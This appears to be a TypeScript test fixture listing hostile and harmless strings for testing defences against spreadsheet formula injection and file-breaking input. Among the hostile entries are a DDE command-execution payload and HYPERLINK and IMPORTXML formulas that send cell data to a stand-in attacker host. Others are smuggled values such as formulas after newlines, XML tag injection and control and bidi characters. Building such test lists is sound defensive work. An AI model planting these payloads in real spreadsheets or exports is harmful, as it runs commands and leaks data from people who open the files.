const formulas = [
  '=1+1',
  '+1+1',
  '-1+1',
  '@SUM(1)',
  '\t=1',
  '\r=1',
  '\n=1',
  '＝1+1',
  '＋1',
  '－1',
  '＠SUM(1)',
  '﹦1',
  '−1',
]
const before = ['', ' ', '   ', "'", '"', '\u00a0', '\u200b', '\ufeff', ' "\'', '\u202e', '“']

/** Texts that a spreadsheet might run, and texts that break files: every formula after every thing that is stripped. */
export const hostileTexts: readonly string[] = [
  ...formulas.flatMap((formula) => before.map((lead) => lead + formula)),
  "=cmd|' /C calc'!A0",
  '=HYPERLINK("http://evil.example/?"&A1,"click")',
  '=IMPORTXML(CONCAT("http://evil.example/",A1),"//a")',
  'harmless;=1+1',
  'harmless\n=1+1',
  'harmless\r\n"=1+1',
  'harmless\t@SUM(1)',
  'x","=1+1","y',
  '"',
  '""',
  '","',
  "'",
  "''=1",
  ',;\t',
  '</t></is></c><c><f>1+1</f></c>',
  '<![CDATA[=1]]>',
  '&lt;f&gt;&#61;1',
  '_x003D_1+1',
  '_x005F_x003D_',
  '\u0001\u0008\u000b\u001f\u007f',
  '\ufffe\uffff',
  '😀 Zoë 名前 \u202eevil',
  ' leading and trailing ',
]

export const harmlessTexts: readonly string[] = [
  '',
  'Ada Lovelace',
  'a=b',
  'x + y',
  '1-1',
  'ada@example.edu',
  'half, as = was asked',
]
